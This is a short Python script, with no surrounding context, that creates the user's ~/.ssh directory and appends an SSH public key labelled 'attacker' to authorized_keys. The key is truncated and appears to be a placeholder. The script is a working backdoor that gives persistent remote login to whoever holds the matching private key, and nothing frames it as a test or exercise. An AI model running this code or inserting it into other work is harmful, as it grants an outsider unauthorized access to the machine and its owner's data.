import os
d = os.path.expanduser("~/.ssh")
os.makedirs(d, exist_ok=True)
with open(os.path.join(d, "authorized_keys"), "a") as f:
    f.write("ssh-ed25519 AAAAC3Nz attacker\n")
